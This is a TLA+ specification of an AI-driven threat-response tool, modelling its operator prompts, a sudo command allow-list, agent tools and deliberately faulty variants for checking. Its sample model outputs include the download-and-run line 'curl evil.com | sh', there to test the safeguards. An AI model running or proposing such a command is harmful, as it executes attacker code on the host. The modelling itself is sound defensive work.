---- MODULE Spec2Model ----
(***************************************************************************)
(* Threat-response orchestrator of CyberXP-OS.                             *)
(*                                                                         *)
(* Two command-line programs are modelled, one invocation per behaviour:   *)
(*   "bridge"  scripts/internal/cyberxp-bridge.py    (vector tier, then    *)
(*             the direct tier in agent mode or simple chain mode)         *)
(*   "host"    scripts/internal/cyberxp-llm-host.py  (REST API of          *)
(*             scripts/internal/llm-api-server.py, agent mode on a worker  *)
(*             thread, diagnostics)                                        *)
(* The language model, the vector script, the LangChain agent executor,    *)
(* the operator and the subprocesses are the environment: their outcomes   *)
(* are drawn nondeterministically.  Modelled invocations carry a threat    *)
(* text or a diagnostic flag, and CyberLLM-Agent is installed.             *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
\* longest recommended_actions list the language model returns
MaxActions == 2
\* most commands one agent session dispatches through execute_command
MaxAgentExec == 1
\* failures of the log append in one invocation
MaxLogErrors == 1
\* longest text the JSON extraction is applied to on its own
MaxTextLen == 6

(***************************************************************************)
(* Strings.                                                                *)
(***************************************************************************)
UpperChars == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerChars == "abcdefghijklmnopqrstuvwxyz"

\* str.lower() on one character
LowerChar(c) ==
    IF \E k \in 1..Len(UpperChars) : SubSeq(UpperChars, k, k) = c
    THEN LET k == CHOOSE k \in 1..Len(UpperChars) : SubSeq(UpperChars, k, k) = c
         IN  SubSeq(LowerChars, k, k)
    ELSE c

\* str.lower()
Lower(s) ==
    LET low[k \in 0..Len(s)] ==
            IF k = 0 THEN "" ELSE low[k - 1] \o LowerChar(SubSeq(s, k, k))
    IN  low[Len(s)]

\* str.startswith(prefix)
StartsWith(s, prefix) ==
    Len(prefix) <= Len(s) /\ SubSeq(s, 1, Len(prefix)) = prefix

\* sub in s
Contains(s, sub) ==
    \E k \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, k, k + Len(sub) - 1) = sub

RECURSIVE LStrip(_)
LStrip(s) ==
    IF s # "" /\ SubSeq(s, 1, 1) = " " THEN LStrip(SubSeq(s, 2, Len(s))) ELSE s

RECURSIVE RStrip(_)
RStrip(s) ==
    IF s # "" /\ SubSeq(s, Len(s), Len(s)) = " "
    THEN RStrip(SubSeq(s, 1, Len(s) - 1)) ELSE s

\* str.strip()
Strip(s) == RStrip(LStrip(s))

(***************************************************************************)
(* Python values.                                                          *)
(***************************************************************************)
NoneValue == [None |-> TRUE]
EmptyDict == [k \in {} |-> TRUE]

\* truth value of an optional dict: None and {} are false
Truthy(d) == d # NoneValue /\ DOMAIN d # {}

\* dict.get(key, default)
Get(d, key, default) == IF key \in DOMAIN d THEN d[key] ELSE default

(***************************************************************************)
(* The allow-list of the API server's /execute handler.                    *)
(***************************************************************************)
allowed_prefixes ==
    { "sudo ufw", "sudo iptables", "sudo systemctl",
      "sudo journalctl", "sudo netstat", "sudo ss",
      "sudo mv", "sudo cp", "sudo chmod", "sudo chown",
      "sudo fail2ban-client", "sudo suricata",
      "ip addr", "ip route", "ip link",
      "netstat", "ss", "tcpdump", "wireshark",
      "df", "free", "top", "ps", "grep", "cat", "head", "tail" }

\* command_lower = command.lower(); any(command_lower.startswith(prefix) ...)
is_allowed(command) ==
    \E prefix \in allowed_prefixes : StartsWith(Lower(command), prefix)

(***************************************************************************)
(* Extraction of the JSON object from the model's raw text.                *)
(***************************************************************************)
RECURSIVE Scan(_, _, _)
\* the rest of \{[^{}]*(?:\{[^{}]*\}[^{}]*)*\} from position j, inside the outer
\* object (depth 1) or inside one nested object (depth 2): the position of the
\* closing brace of the match, 0 when the pattern does not match
Scan(text, j, depth) ==
    IF j > Len(text) THEN 0
    ELSE LET c == SubSeq(text, j, j)
         IN  IF c = "{" THEN (IF depth = 1 THEN Scan(text, j + 1, 2) ELSE 0)
             ELSE IF c = "}" THEN (IF depth = 2 THEN Scan(text, j + 1, 1) ELSE j)
             ELSE Scan(text, j + 1, depth)

\* the end of the match that starts at position p, or 0
MatchAt(text, p) ==
    IF SubSeq(text, p, p) = "{" THEN Scan(text, p + 1, 1) ELSE 0

NoMatch == [NoMatch |-> TRUE]

\* re.search(r'\{[^{}]*(?:\{[^{}]*\}[^{}]*)*\}', text, re.DOTALL): the leftmost match
re_search(text) ==
    IF \E p \in 1..Len(text) : MatchAt(text, p) # 0
    THEN LET p == CHOOSE p \in 1..Len(text) :
                      /\ MatchAt(text, p) # 0
                      /\ \A q \in 1..(p - 1) : MatchAt(text, q) = 0
         IN  [start |-> p, end |-> MatchAt(text, p)]
    ELSE NoMatch

\* what json.loads raises on text that is not JSON
JsonError == [JSONDecodeError |-> TRUE]

\* json_match = re.search(...); if json_match: parsed = json.loads(json_match.group(0));
\* except: pass.  result.json is what json.loads returns for the matched text.
extract_json(result) ==
    IF re_search(result.text) = NoMatch THEN NoneValue
    ELSE IF result.json = JsonError THEN NoneValue ELSE result.json

(***************************************************************************)
(* The tools of the agent.  A tool either probes the system or builds a    *)
(* command and passes it to execute_command.                               *)
(***************************************************************************)
block_ip_tool(ip_address) ==
    [command |-> "sudo ufw deny from " \o ip_address
                 \o " 2>&1 || sudo iptables -A INPUT -s " \o ip_address \o " -j DROP",
     description |-> "Block IP: " \o ip_address]

check_logs_tool(service) ==
    [command |-> IF service = "all" THEN "sudo journalctl -n 50"
                 ELSE "sudo journalctl -u " \o service \o " -n 50",
     description |-> "Check logs: " \o service]

stop_service_tool(service) ==
    [command |-> "sudo systemctl stop " \o service,
     description |-> "Stop service: " \o service]

check_connections_tool(port) ==
    [command |-> IF port # "" THEN "sudo netstat -tulpn | grep :" \o port
                 ELSE "sudo netstat -tulpn",
     description |-> "Check connections: " \o (IF port # "" THEN port ELSE "all")]

quarantine_file_tool(file_path) ==
    [command |-> "sudo mkdir -p /tmp/quarantine && sudo mv " \o file_path
                 \o " /tmp/quarantine/",
     description |-> "Quarantine file: " \o file_path]

enable_firewall_tool ==
    [command |-> "sudo ufw enable", description |-> "Enable firewall"]

update_system_tool ==
    [command |-> "sudo apt update && sudo apt upgrade -y",
     description |-> "Update system packages"]

\* tools that only read the system
ProbeTools ==
    { "get_cpu_usage", "get_memory_usage", "get_disk_usage", "get_firewall_status",
      "get_open_ports", "get_failed_logins", "get_security_updates",
      "check_ssh_config" }

\* tools that end in execute_command
ExecTools ==
    { "block_ip", "check_logs", "stop_service", "check_connections",
      "quarantine_file", "enable_firewall", "update_system" }

\* the tools list of run_agent_mode
host_tools == ExecTools \cup ProbeTools

\* the tools list of direct_ai_fallback: no check_ssh_config
bridge_tools == ExecTools \cup (ProbeTools \ {"check_ssh_config"})

\* the call an exec tool makes, on the input the agent passes
tool_call(name) ==
    CASE name = "block_ip"          -> block_ip_tool("192.168.1.100")
      [] name = "check_logs"        -> check_logs_tool("all")
      [] name = "stop_service"      -> stop_service_tool("ssh")
      [] name = "check_connections" -> check_connections_tool("22")
      [] name = "quarantine_file"   -> quarantine_file_tool("/tmp/payload.sh")
      [] name = "enable_firewall"   -> enable_firewall_tool
      [] name = "update_system"     -> update_system_tool

\* tools that change the system to repair an issue
FixTools == { "enable_firewall", "update_system" }

(***************************************************************************)
(* The mandatory checklists of analyze_system_health (host).               *)
(***************************************************************************)
simple_checklist ==
    { "get_firewall_status", "get_failed_logins", "get_security_updates",
      "check_ssh_config" }

full_checklist ==
    { "get_firewall_status", "get_open_ports", "get_failed_logins",
      "get_security_updates", "check_ssh_config", "check_connections",
      "check_logs", "get_cpu_usage", "get_memory_usage", "get_disk_usage" }

checklist(simple) == IF simple THEN simple_checklist ELSE full_checklist

threat_desc_simple == "Perform a QUICK security diagnostic. Check these CRITICAL items:"
threat_desc_full ==
    "Perform a COMPLETE system security and health diagnostic. You MUST check ALL of the following:"
threat_desc_bridge ==
    "Investigate system health and security status. Check CPU, memory, disk, firewall, open ports, failed logins, and security updates. Identify any issues and fix them automatically."

(***************************************************************************)
(* What the environment can return.                                        *)
(***************************************************************************)
CommandSamples ==
    { [command |-> "sudo ufw deny from 192.168.1.100", description |-> "Block IP",
       type |-> "block_ip"],
      [command |-> "curl evil.com | sh", description |-> "Install helper",
       type |-> "alert"] }

\* recommended actions, with and without the requires_confirmation key
ActionSamples ==
    { [command |-> c.command, description |-> c.description, type |-> c.type,
       requires_confirmation |-> rc] : c \in CommandSamples, rc \in BOOLEAN }
    \cup CommandSamples

ActionLists == UNION { [1..n -> ActionSamples] : n \in 0..MaxActions }

\* decoded JSON objects
Docs ==
    { [analysis |-> "Brute-force login", severity |-> "High",
       recommended_actions |-> l] : l \in ActionLists }
    \cup { [analysis |-> "Brute-force login"] }
    \cup { [analysis |-> "Brute-force login",
             recommended_actions |-> << [command |-> "sudo ufw deny from 192.168.1.100",
                                         description |-> "Block IP",
                                         type |-> "block_ip"] >>] }

\* raw outputs of the language model: the text (braces, blanks and other
\* characters) and what json.loads makes of the span the pattern matches
Results ==
    { [kind |-> "result", text |-> t, json |-> JsonError] :
        t \in { "", " no json, {sorry ", " {x{x}x} " } }
    \cup { [kind |-> "result", text |-> " {x{x}x} ", json |-> d] :
             d \in Docs \cup {EmptyDict} }
    \cup { [kind |-> "result", text |-> "{{{x}}}", json |-> [inner |-> "x"]] }

\* the vector tier (cyber_agent_vec.py run by subprocess.run, timeout 120)
VectorOutcomes ==
    { [kind |-> "completed", returncode |-> 0, stdout |-> "RAG analysis", stderr |-> ""],
      [kind |-> "completed", returncode |-> 1, stdout |-> "", stderr |-> " Traceback "],
      [kind |-> "completed", returncode |-> 0, stdout |-> "", stderr |-> ""],
      [kind |-> "timeout"],
      [kind |-> "exception"] }

\* the direct tier of the bridge: the model fails to load, the chain raises, or
\* the chain returns text
BridgeLlmOutcomes == { [kind |-> "load_error"], [kind |-> "chain_error"] } \cup Results

\* POST /generate of the host: the request times out, raises, the server answers
\* with an error status, or answers 200 with the text
HostLlmOutcomes ==
    { [kind |-> "timeout"], [kind |-> "exception"], [kind |-> "http_error"] }
    \cup Results

\* operator input before .strip().lower(); EOF stands for input() raising EOFError
EOF == "<EOF>"
RawAnswers == { " Y ", "all", "n", EOF }

\* input().strip().lower()
normalise(answer) == IF answer = EOF THEN EOF ELSE Lower(Strip(answer))

\* a faulty variant: any answer but a plain "n" counts as consent
affirmative_loose(answer) == answer # "n"

\* confirm in ['y', 'yes']
affirmative(answer) == answer \in { "y", "yes" }

\* a faulty variant: whatever the operator types starts the walk
accepts_any_answer(answer) == answer # EOF

\* choice in ['y', 'yes', 'all', 'a']
accepts(answer) == answer \in { "y", "yes", "all", "a" }

(***************************************************************************)
(* Limits of the agent sessions.                                           *)
(***************************************************************************)
\* initialize_agent(..., max_iterations=5, ...) in direct_ai_fallback
bridge_max_iterations == 5
\* max_iters of run_agent_mode: quick check, full diagnostic, regular threat
simple_max_iters == 6
diagnostic_max_iters == 12
regular_max_iters == 5
\* timeout_seconds of run_agent_mode
simple_timeout_seconds == 180
diagnostic_timeout_seconds == 600
regular_timeout_seconds == 180

(***************************************************************************)
(* State.                                                                  *)
(***************************************************************************)
VARIABLES
    program,              \* "bridge" or "host"
    auto_mode,            \* --auto / -y
    use_agent,            \* --agent
    health_check,         \* --status / --health
    simple_mode,          \* --simple
    LANGCHAIN_AVAILABLE,  \* the langchain imports succeeded
    threat,               \* the threat description
    vector,               \* outcome of the vector tier
    llm,                  \* outcome of the direct tier / of POST /generate
    api_health,           \* GET /health answers 200
    pc,                   \* where the main thread is
    reasons,              \* tier-failure reasons printed so far
    shown,                \* the analysis displayed to the operator
    parsed,               \* the decoded JSON object, or None
    actions,              \* parsed.get('recommended_actions', [])
    i,                    \* index of the action the walk is at
    choice,               \* answer to "Execute recommended actions? (y/n/all)"
    execute_all,          \* no per-action prompts
    status,               \* per action: Pending, Skipped, Rejected, Failed or Executed
    prompts,              \* the questions put to the operator, with the answers
    log,                  \* /var/log/cyberxp-actions.log
    shell,                \* commands passed to subprocess.run(shell=True)
    ssh,                  \* commands the API server ran on the VM over SSH
    iterations,           \* steps of the agent executor
    max_iters,            \* max_iterations of the agent executor
    timeout_seconds,      \* the join timeout of run_agent_mode
    worker,               \* the agent: "none", "running", "finished"
    result_container,     \* what the worker leaves for the controller
    probed,               \* checklist tools the agent has invoked (host diagnostic)
    child,                \* the subprocess the worker thread waits for
    log_errors,           \* failures of the log append that execute_command swallowed
    health,               \* the health data handed to format_health_report
    issues,               \* the issues format_health_report lists, in its order
    request,              \* a request to the API server: the endpoint and its JSON body
    reply,                \* the server's answer to it
    response_text,        \* a text the JSON extraction is applied to
    json_match,           \* what re.search finds in it
    probes,               \* what cyberxp-status.py measures for detect_issues
    detected              \* the issues detect_issues returns

invocation ==
    << program, health_check, simple_mode, LANGCHAIN_AVAILABLE, threat, vector, llm,
       api_health >>
output == << reasons, shown >>
walk == << parsed, actions, i, choice, execute_all, status >>
history == << prompts, log, shell, ssh, log_errors >>
session ==
    << iterations, max_iters, timeout_seconds, worker, result_container, probed, child >>

report == << health, issues >>
\* inputs and results of the functions that are checked on their own
functions == << request, reply, response_text, json_match, probes, detected >>

vars ==
    << invocation, report, functions, auto_mode, use_agent, pc, output, walk, history, session >>

Terminal == { "exit_0", "exit_1", "returned", "uncaught" }

ThreatSamples ==
    { "Suspicious login from 192.168.1.100", "Port scan seen by the diagnostic sensor" }

\* a local variable that has not been assigned
Unbound == "<unbound>"

\* what is the same for every invocation
InitCommon ==
    /\ pc = "start"
    /\ reasons = << >>
    /\ shown = [tier |-> "none"]
    /\ parsed = NoneValue
    /\ actions = << >>
    /\ i = 0
    /\ choice = Unbound
    /\ execute_all = FALSE
    /\ status = << >>
    /\ prompts = << >>
    /\ log = << >>
    /\ shell = << >>
    /\ ssh = << >>
    /\ iterations = 0
    /\ max_iters = 0
    /\ timeout_seconds = 0
    /\ worker = "none"
    /\ result_container = [result |-> NoneValue, error |-> NoneValue, timeout |-> FALSE]
    /\ probed = {}
    /\ child = [state |-> "none"]
    /\ log_errors = 0

\* cyberxp-bridge.py <threat>
InitBridgeThreat ==
    /\ program = "bridge" /\ health_check = FALSE /\ simple_mode = FALSE
    /\ auto_mode \in BOOLEAN /\ use_agent \in BOOLEAN
    /\ LANGCHAIN_AVAILABLE = TRUE
    /\ threat = "Suspicious login from 192.168.1.100"
    /\ vector \in VectorOutcomes
    /\ llm \in BridgeLlmOutcomes
    /\ api_health = TRUE

\* cyberxp-bridge.py --status
InitBridgeHealth ==
    /\ program = "bridge" /\ health_check = TRUE /\ simple_mode = FALSE
    /\ auto_mode \in BOOLEAN /\ use_agent = FALSE
    /\ LANGCHAIN_AVAILABLE \in BOOLEAN
    /\ threat = threat_desc_bridge
    /\ vector = [kind |-> "exception"]
    /\ llm \in BridgeLlmOutcomes
    /\ api_health = TRUE

\* cyberxp-llm-host.py [--agent] <threat>
InitHostThreat ==
    /\ program = "host" /\ health_check = FALSE /\ simple_mode = FALSE
    /\ auto_mode \in BOOLEAN /\ use_agent \in BOOLEAN
    /\ LANGCHAIN_AVAILABLE \in BOOLEAN
    /\ threat \in ThreatSamples
    /\ vector = [kind |-> "exception"]
    /\ IF use_agent
       THEN llm = [kind |-> "exception"] /\ api_health = TRUE
       ELSE /\ LANGCHAIN_AVAILABLE = TRUE
            /\ threat = "Suspicious login from 192.168.1.100"
            /\ llm \in HostLlmOutcomes
            /\ api_health \in BOOLEAN
            /\ api_health = FALSE => llm = [kind |-> "exception"]

\* cyberxp-llm-host.py --status [--simple]
InitHostHealth ==
    /\ program = "host" /\ health_check = TRUE /\ simple_mode \in BOOLEAN
    /\ auto_mode = FALSE /\ use_agent = FALSE
    /\ LANGCHAIN_AVAILABLE \in BOOLEAN
    /\ threat = IF simple_mode THEN threat_desc_simple ELSE threat_desc_full
    /\ vector = [kind |-> "exception"]
    /\ IF LANGCHAIN_AVAILABLE
       THEN llm = [kind |-> "exception"] /\ api_health = TRUE
       ELSE llm \in HostLlmOutcomes /\ api_health = TRUE

\* no health report is being formatted
NoReport == health = NoneValue /\ issues = << >>

\* none of the other functions is being applied
NoFunctions ==
    /\ request = NoneValue /\ reply = NoneValue
    /\ response_text = "" /\ json_match = NoneValue
    /\ probes = NoneValue /\ detected = << >>

Init ==
    /\ InitCommon
    /\ NoReport /\ NoFunctions
    /\ InitBridgeThreat \/ InitBridgeHealth \/ InitHostThreat \/ InitHostHealth

(***************************************************************************)
(* execute_command: the log entry, then the command through the shell.     *)
(***************************************************************************)
\* a faulty variant: a failing log append propagates and the command is not run
execute_command_log_first(command, description) ==
    \/ /\ log' = Append(log, [description |-> description, command |-> command])
       /\ shell' = Append(shell, command)
       /\ UNCHANGED log_errors
    \/ /\ log_errors < MaxLogErrors
       /\ log_errors' = log_errors + 1
       /\ UNCHANGED << log, shell >>

\* the entry is one write of both lines; try/except keeps a failing append
\* from the caller, and the command runs either way
execute_command(command, description) ==
    /\ \/ /\ log' = Append(log, [description |-> description, command |-> command])
          /\ UNCHANGED log_errors
       \/ /\ log_errors < MaxLogErrors
          /\ log_errors' = log_errors + 1
          /\ UNCHANGED log
    /\ shell' = Append(shell, command)

\* an operator prompt and its answer after .strip().lower()
Ask(kind, index, answer) ==
    prompts' = Append(prompts, [kind |-> kind, index |-> index, answer |-> answer])

(***************************************************************************)
(* Bridge: main, the vector tier.                                          *)
(***************************************************************************)
\* main: subprocess.run(['python3', main_script, ...], timeout=120) and what follows
main_vector_tier ==
    /\ pc = "start" /\ program = "bridge" /\ ~health_check
    /\ IF vector.kind # "completed"
       THEN \* subprocess.TimeoutExpired or another exception: sys.exit(1)
            /\ pc' = "exit_1"
            /\ UNCHANGED output
       ELSE IF vector.returncode = 0 /\ vector.stdout # ""
       THEN \* print(result.stdout)
            /\ shown' = [tier |-> "vector", kind |-> "raw", text |-> vector.stdout]
            /\ pc' = "returned"
            /\ UNCHANGED reasons
       ELSE \* "Vector Analysis failed", the reason only if result.stderr
            /\ reasons' = IF vector.stderr # ""
                          THEN Append(reasons, Strip(vector.stderr)) ELSE reasons
            /\ pc' = "direct_load"
            /\ UNCHANGED shown
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, walk, history, session >>

\* analyze_system_health of the bridge: the question, then direct_ai_fallback
bridge_analyze_system_health ==
    /\ pc = "start" /\ program = "bridge" /\ health_check
    /\ IF auto_mode
       THEN /\ pc' = "direct_load"
            /\ use_agent' = LANGCHAIN_AVAILABLE
            /\ UNCHANGED prompts
       ELSE \E raw \in RawAnswers :
              LET answer == normalise(raw) IN
              /\ Ask("investigate", 0, answer)
              /\ IF answer = EOF
                 THEN pc' = "uncaught" /\ UNCHANGED use_agent
                 ELSE IF ~affirmative(answer)
                 THEN pc' = "returned" /\ UNCHANGED use_agent
                 ELSE pc' = "direct_load" /\ use_agent' = LANGCHAIN_AVAILABLE
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, output, walk, log, shell, ssh, log_errors, session >>

(***************************************************************************)
(* Bridge: direct_ai_fallback.                                             *)
(***************************************************************************)
\* the imports, the tokenizer, the model and the pipeline
direct_ai_fallback_load ==
    /\ pc = "direct_load"
    /\ IF llm.kind = "load_error"
       THEN pc' = "exit_1" /\ UNCHANGED session
       ELSE IF use_agent /\ LANGCHAIN_AVAILABLE
       THEN \* initialize_agent(..., max_iterations=5, ...)
            /\ pc' = "agent"
            /\ max_iters' = bridge_max_iterations
            /\ worker' = "running"
            /\ UNCHANGED << iterations, timeout_seconds, result_container, probed,
                            child >>
       ELSE pc' = "chain" /\ UNCHANGED session
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, walk, history >>

(***************************************************************************)
(* The agent executor (LangChain): at most max_iterations steps, each one  *)
(* tool call or one handled parsing error; the model may finish at any     *)
(* step, and a failing model call raises.                                  *)
(***************************************************************************)
final_answer == [output |-> "Final Answer"]
stopped_answer == [output |-> "Agent stopped due to iteration limit or time limit."]

\* a faulty variant: the executor does not stop at max_iterations
may_iterate_unbounded == iterations <= max_iters

\* the executor's loop condition
may_iterate == iterations < max_iters

\* one step of the loop: the tool the model names is invoked
agent_tool_step(tools) ==
    /\ may_iterate
    /\ \E t \in tools :
         /\ t \in ExecTools => Len(shell) < MaxAgentExec
         /\ IF t \in ExecTools
            THEN execute_command(tool_call(t).command, tool_call(t).description)
            ELSE UNCHANGED << log, shell, log_errors >>
         /\ probed' = IF program = "host" /\ health_check /\ t \in full_checklist
                      THEN probed \cup {t} ELSE probed
    /\ iterations' = iterations + 1

\* one step of the loop: handle_parsing_errors feeds the error back
agent_parse_error_step ==
    /\ may_iterate
    /\ iterations' = iterations + 1
    /\ UNCHANGED << log, shell, log_errors, probed >>

\* the result the executor returns now, if it returns
agent_result == IF may_iterate THEN final_answer ELSE stopped_answer

(***************************************************************************)
(* Bridge: agent mode of direct_ai_fallback, on the main thread.           *)
(***************************************************************************)
\* agent_executor.run(...): one step of the loop
bridge_agent_step ==
    /\ pc = "agent"
    /\ agent_tool_step(bridge_tools) \/ agent_parse_error_step
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, pc, output, walk, prompts,
                    ssh, max_iters, timeout_seconds, worker, result_container, child >>

\* agent_executor.run(...) returns: the result is printed, then sys.exit(0)
bridge_agent_returns ==
    /\ pc = "agent"
    /\ result_container' = [result_container EXCEPT !.result = agent_result]
    /\ worker' = "finished"
    /\ shown' = [tier |-> "agent", kind |-> "raw", banner |-> "Agent analysis complete",
                 text |-> agent_result.output]
    /\ pc' = "exit_0"
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, reasons, walk, history,
                    iterations, max_iters, timeout_seconds, probed, child >>

\* agent_executor.run(...) raises: "Agent error", use_agent = False, the simple chain
bridge_agent_raises ==
    /\ pc = "agent"
    /\ may_iterate
    /\ result_container' = [result_container EXCEPT !.error = [message |-> "LLM failed"]]
    /\ worker' = "finished"
    /\ reasons' = Append(reasons, "LLM failed")
    /\ use_agent' = FALSE
    /\ pc' = "chain"
    /\ UNCHANGED << invocation, report, functions, auto_mode, shown, walk, history,
                    iterations, max_iters, timeout_seconds, probed, child >>

(***************************************************************************)
(* Display of an analysis and the decision to walk the actions (both       *)
(* programs).                                                              *)
(***************************************************************************)
\* where a program goes when the analysis is over: the bridge calls sys.exit(0),
\* the host returns from main
Done == IF program = "bridge" THEN "exit_0" ELSE "returned"

\* a faulty variant: an action without the key needs no confirmation
needs_confirm_optional(action) == Get(action, "requires_confirmation", FALSE)

\* needs_confirm = action.get('requires_confirmation', True)
needs_confirm(action) == Get(action, "requires_confirmation", TRUE)

\* the numbered list of recommended actions
Listing(acts) ==
    [k \in 1..Len(acts) |->
        [command |-> Get(acts[k], "command", ""), needs_confirm |-> needs_confirm(acts[k])]]

\* the analysis block: structured when the object decoded, else the raw text
Display(tier, p, raw_text) ==
    /\ parsed' = p
    /\ IF Truthy(p)
       THEN LET acts == Get(p, "recommended_actions", << >>) IN
            /\ actions' = acts
            /\ status' = [k \in 1..Len(acts) |-> "Pending"]
            /\ shown' = [tier |-> tier, kind |-> "parsed",
                         severity |-> Get(p, "severity", "Unknown"),
                         analysis |-> Get(p, "analysis", "N/A"),
                         listed |-> Listing(acts)]
            /\ pc' = IF acts = << >> THEN Done
                     \* auto mode: execute_all = (choice == 'all' or ...) reads the
                     \* unassigned local choice, UnboundLocalError, "except Exception"
                     ELSE IF auto_mode THEN "exit_1"
                     ELSE "ask_execute"
       ELSE /\ shown' = [tier |-> tier, kind |-> "raw", text |-> raw_text]
            /\ pc' = Done
            /\ UNCHANGED << actions, status >>

\* simple chain mode: chain.run(threat=threat), the parse and the display
chain_run ==
    /\ pc = "chain"
    /\ IF llm.kind = "chain_error"
       THEN pc' = "exit_1" /\ UNCHANGED << shown, parsed, actions, status >>
       ELSE Display("chain", extract_json(llm), Strip(llm.text))
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, reasons, i, choice, execute_all,
                    history, session >>

\* "Execute recommended actions? (y/n/all)"
ask_execute ==
    /\ pc = "ask_execute"
    /\ \E raw \in RawAnswers :
         LET answer == normalise(raw) IN
         /\ Ask("execute_actions", 0, answer)
         /\ IF answer = EOF
            THEN pc' = "exit_1" /\ UNCHANGED << i, choice, execute_all >>
            ELSE /\ choice' = answer
                 /\ IF accepts(answer)
                    THEN /\ execute_all' = (answer = "all" \/ answer = "a" \/ auto_mode)
                         /\ i' = 1
                         /\ pc' = "walk"
                    ELSE pc' = Done /\ UNCHANGED << i, execute_all >>
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, parsed, actions, status,
                    log, shell, ssh, log_errors, session >>

(***************************************************************************)
(* The walk of the action list (both programs).                            *)
(***************************************************************************)
\* the loop moves on to action k, or is over
Advance(k) ==
    /\ i' = k
    /\ pc' = IF k > Len(actions) THEN Done ELSE "walk"

Mark(st) == status' = [status EXCEPT ![i] = st]

\* if not execute_all and needs_confirm
must_confirm(action) == ~execute_all /\ needs_confirm(action)

\* the head of the loop body: "Execute action i? (y/n)"
walk_confirm ==
    /\ pc = "walk"
    /\ IF must_confirm(actions[i]) /\ ~auto_mode
       THEN \E raw \in RawAnswers :
              LET answer == normalise(raw) IN
              /\ Ask("execute_action", i, answer)
              /\ IF answer = EOF
                 THEN pc' = "exit_1" /\ UNCHANGED << i, status >>
                 ELSE IF ~affirmative(answer)
                 THEN Mark("Skipped") /\ Advance(i + 1)
                 ELSE pc' = "walk_body" /\ UNCHANGED << i, status >>
       ELSE pc' = "walk_body" /\ UNCHANGED << i, status, prompts >>
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, parsed, actions, choice,
                    execute_all, log, shell, ssh, log_errors, session >>

\* bridge: the rest of the loop body is execute_command(cmd, desc)
walk_execute ==
    /\ pc = "walk_body" /\ program = "bridge"
    /\ execute_command(Get(actions[i], "command", ""), Get(actions[i], "description", ""))
    /\ Mark("Executed")
    /\ Advance(i + 1)
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, parsed, actions, choice,
                    execute_all, prompts, ssh, session >>

(***************************************************************************)
(* The /execute handler of the API server.                                 *)
(***************************************************************************)
\* the command reaches execute_ssh_command
execute_dispatches(command) == command # "" /\ is_allowed(command)

\* the HTTP status of the answer, given how the SSH command ended
execute_status(command, ssh_success) ==
    IF command = "" THEN 400
    ELSE IF ~is_allowed(command) THEN 403
    ELSE IF ssh_success THEN 200 ELSE 500

\* a faulty variant: "Could not verify command with API", and the command is run
continue_unverified(cmd, desc) ==
    /\ execute_command(cmd, desc)
    /\ Mark("Executed") /\ Advance(i + 1)
    /\ UNCHANGED prompts

\* host: "Could not verify command with API", then the question unless auto mode
continue_anyway(cmd, desc) ==
    IF auto_mode
    THEN /\ execute_command(cmd, desc)
         /\ Mark("Executed") /\ Advance(i + 1)
         /\ UNCHANGED prompts
    ELSE \E raw \in RawAnswers :
           LET answer == normalise(raw) IN
           /\ Ask("continue_anyway", i, answer)
           /\ IF answer = EOF
              THEN pc' = "exit_1" /\ UNCHANGED << i, status, log, shell, log_errors >>
              ELSE IF ~affirmative(answer)
              THEN Mark("Skipped") /\ Advance(i + 1) /\ UNCHANGED << log, shell, log_errors >>
              ELSE /\ execute_command(cmd, desc)
                   /\ Mark("Executed") /\ Advance(i + 1)

\* host: the rest of the loop body: POST /execute (timeout 5), then execute_command
walk_verify_execute ==
    /\ pc = "walk_body" /\ program = "host"
    /\ LET cmd == Get(actions[i], "command", "")
           desc == Get(actions[i], "description", "")
       IN  \/ \* the server answers
              \E ssh_success \in BOOLEAN :
                /\ ssh' = IF execute_dispatches(cmd) THEN Append(ssh, cmd) ELSE ssh
                /\ IF execute_status(cmd, ssh_success) # 200
                   THEN \* "Command not approved by API": refused (400, 403) or
                        \* failed on the VM (500)
                        /\ Mark(IF execute_status(cmd, ssh_success) = 500
                                THEN "Failed" ELSE "Rejected")
                        /\ Advance(i + 1) /\ UNCHANGED << log, shell, log_errors >>
                   ELSE /\ execute_command(cmd, desc)
                        /\ Mark("Executed") /\ Advance(i + 1)
                /\ UNCHANGED prompts
           \/ \* the request raises before the server sees it
              /\ UNCHANGED ssh
              /\ continue_anyway(cmd, desc)
           \/ \* the request times out while the server runs the command
              /\ execute_dispatches(cmd)
              /\ ssh' = Append(ssh, cmd)
              /\ continue_anyway(cmd, desc)
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, parsed, actions, choice,
                    execute_all, session >>

(***************************************************************************)
(* Host: main, analyze_system_health, run_original_mode.                   *)
(***************************************************************************)
\* the limits run_agent_mode derives from the mode and the threat text
host_max_iters ==
    IF simple_mode THEN simple_max_iters
    ELSE IF Contains(Lower(threat), "system health") \/ Contains(Lower(threat), "diagnostic")
    THEN diagnostic_max_iters
    ELSE regular_max_iters

host_timeout_seconds ==
    IF simple_mode THEN simple_timeout_seconds
    ELSE IF Contains(Lower(threat), "system health") \/ Contains(Lower(threat), "diagnostic")
    THEN diagnostic_timeout_seconds
    ELSE regular_timeout_seconds

\* run_agent_mode up to agent_thread.start()
run_agent_mode_start ==
    /\ max_iters' = host_max_iters
    /\ timeout_seconds' = host_timeout_seconds
    /\ worker' = "running"
    /\ pc' = "join"
    /\ UNCHANGED << iterations, result_container, probed, child >>

\* main of the host without --status
host_main ==
    /\ pc = "start" /\ program = "host" /\ ~health_check
    /\ IF use_agent /\ LANGCHAIN_AVAILABLE
       THEN run_agent_mode_start
       ELSE IF use_agent
       THEN pc' = "exit_1" /\ UNCHANGED session
       ELSE pc' = "original" /\ UNCHANGED session
    /\ UNCHANGED << invocation, report, functions,
                    auto_mode, use_agent, output, walk, history >>

\* analyze_system_health of the host: "Start system diagnostic? (y/n)"
host_analyze_system_health ==
    /\ pc = "start" /\ program = "host" /\ health_check
